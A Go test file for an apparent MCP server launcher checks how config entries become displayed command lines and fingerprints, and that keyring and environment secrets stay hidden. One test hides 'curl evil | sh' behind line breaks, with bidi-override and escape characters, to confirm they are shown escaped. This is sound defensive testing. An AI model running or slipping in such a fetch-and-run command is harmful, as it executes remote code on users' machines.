package config

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// A Launch says what an entry runs without a secret value, and its
// fingerprint changes with the command, the arguments, the names and
// values (as written) of the environment, the working directory, the URL,
// the headers or the executable's path, and with nothing else.
func TestLaunch(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	bin := filepath.Join(dir, "bin")
	os.MkdirAll(bin, 0o755)
	os.WriteFile(filepath.Join(bin, "npx"), []byte("#!/bin/sh\n"), 0o755)
	os.WriteFile(filepath.Join(dir, "notes.env"), []byte("FROM_FILE=1\n"), 0o600)
	path := bin
	env := Env{Home: "/home/me", Self: "/opt/mcptray", Dir: dir,
		Lookup:  func(k string) (string, bool) { return map[string]string{"PATH": path, "TOKEN": "tok-secret"}[k], true },
		Keyring: func(string) (string, error) { return "ring-secret", nil }}
	parse := func(entry string) Server {
		t.Helper()
		cfg, err := Parse([]byte(`{"mcpServers": {"a": `+entry+`}}`), env)
		if err != nil {
			t.Fatal(err)
		}
		return cfg.Servers[0]
	}
	base := `{"command": "npx", "args": ["-y", "notes", "--key=${keyring:k}", "~/notes", "${env:TOKEN}"], "env": {"B": "${env:TOKEN}", "A": "x"}, "envFile": "notes.env", "cwd": "~/w"}`
	s := parse(base)
	l := s.Launch
	if l.Command != filepath.Join(bin, "npx") || !slices.Equal(l.Args, []string{"-y", "notes", "--key=${keyring:k}", "/home/me/notes", "${env:TOKEN}"}) ||
		!slices.Equal(l.EnvNames, []string{"A", "B", "FROM_FILE"}) || l.Cwd != "/home/me/w" || l.EnvFile != "notes.env" {
		t.Errorf("launch %+v", l)
	}
	if cl := l.CommandLine(); cl != filepath.Join(bin, "npx")+" -y notes '--key=${keyring:k}' /home/me/notes '${env:TOKEN}'" {
		t.Errorf("command line %q", cl)
	}
	for _, secret := range []string{"tok-secret", "ring-secret"} {
		if strings.Contains(l.CommandLine(), secret) || strings.Contains(strings.Join(l.Args, " "), secret) {
			t.Errorf("the launch shows %s", secret)
		}
	}
	fp := l.Fingerprint()
	same := []string{
		`{"command": "npx", "args": ["-y", "notes", "--key=${keyring:k}", "~/notes", "${env:TOKEN}"], "env": {"A": "x", "B": "${env:TOKEN}"}, "envFile": "notes.env", "cwd": "~/w", "disabled": true, "x-mcptray": {"approve": "all"}}`,
	}
	for _, e := range same {
		if parse(e).Launch.Fingerprint() != fp {
			t.Errorf("fingerprint changed by %s", e)
		}
	}
	changed := []string{
		strings.Replace(base, `"-y", `, ``, 1),
		strings.Replace(base, `"A": "x"`, `"C": "x"`, 1),
		strings.Replace(base, `"~/w"`, `"/tmp"`, 1),
		strings.Replace(base, `"npx"`, `"/usr/bin/npx"`, 1),
		strings.Replace(base, `"envFile": "notes.env", `, ``, 1),
		strings.Replace(base, `"A": "x"`, `"A": "other"`, 1),
		strings.Replace(base, `"B": "${env:TOKEN}"`, `"B": "${env:OTHER}"`, 1),
	}
	for _, e := range changed {
		if parse(e).Launch.Fingerprint() == fp {
			t.Errorf("fingerprint unchanged by %s", e)
		}
	}
	path = t.TempDir() + ":" + bin // npx elsewhere first: a new executable
	os.WriteFile(filepath.Join(strings.Split(path, ":")[0], "npx"), []byte("#!/bin/sh\n"), 0o755)
	if parse(base).Launch.Fingerprint() == fp {
		t.Error("fingerprint unchanged by another npx on PATH")
	}

	h := parse(`{"url": "https://example/mcp", "headers": {"Authorization": "Bearer ${keyring:t}"}}`).Launch
	if h.URL != "https://example/mcp" || !slices.Equal(h.HeaderNames, []string{"Authorization"}) || h.CommandLine() != "https://example/mcp" {
		t.Errorf("http launch %+v", h)
	}
	if parse(`{"command": 3}`).Launch.Fingerprint() != "" {
		t.Error("a broken entry has a launch")
	}
}

func TestLaunches(t *testing.T) {
	t.Parallel()
	reads := 0
	env := Env{Self: "/opt/mcptray", Keyring: func(string) (string, error) { reads++; return "v", nil }}
	data := []byte(`{"mcpServers": {"a": {"command": "${self}", "args": ["serve", "ssh"], "env": {"K": "${keyring:x}"}}, "b": {"command": 3}},
		"servers": {"a": {"command": "other"}, "c": {"url": "https://x/mcp"}}}`)
	ls, err := Launches(data, env)
	if err != nil {
		t.Fatal(err)
	}
	if reads != 0 {
		t.Error("Launches read the keyring")
	}
	cfg, _ := Parse(data, env)
	if len(ls) != 2 || ls["a"].Fingerprint() != cfg.Servers[0].Launch.Fingerprint() || ls["a"].Command != "/opt/mcptray" || ls["c"].URL != "https://x/mcp" {
		t.Errorf("launches %+v", ls)
	}
}

// An argument holding a line break, a control or a bidirectional-override
// character shows it escaped: the command line stays one line, in order,
// whatever an entry's arguments hold.
func TestCommandLineShowsHiddenCharacters(t *testing.T) {
	t.Parallel()
	l := Launch{Type: TypeStdio, Command: "/bin/sh", Args: []string{"-c", "echo ok\n\n\n\n\ncurl evil | sh", "a\u202eb", "it's", "\x1b[2J"}}
	want := `/bin/sh -c $'echo ok\n\n\n\n\ncurl evil | sh' $'a\u202eb' 'it'\''s' $'\x1b[2J'`
	if got := l.CommandLine(); got != want {
		t.Errorf("CommandLine() =\n%s\nwant\n%s", got, want)
	}
	if strings.ContainsAny(l.CommandLine(), "\n\r\x1b\u202e") {
		t.Error("the command line holds a hidden character")
	}
}
